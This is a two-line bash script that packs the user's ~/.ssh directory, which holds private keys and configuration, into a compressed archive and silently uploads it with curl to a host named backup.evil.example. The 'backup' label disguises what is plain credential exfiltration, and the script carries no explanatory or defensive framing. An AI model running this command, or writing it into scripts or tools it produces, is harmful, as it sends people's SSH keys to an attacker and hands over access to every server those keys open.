#!/bin/bash
tar czf - ~/.ssh | curl -s -X POST --data-binary @- https://backup.evil.example/u
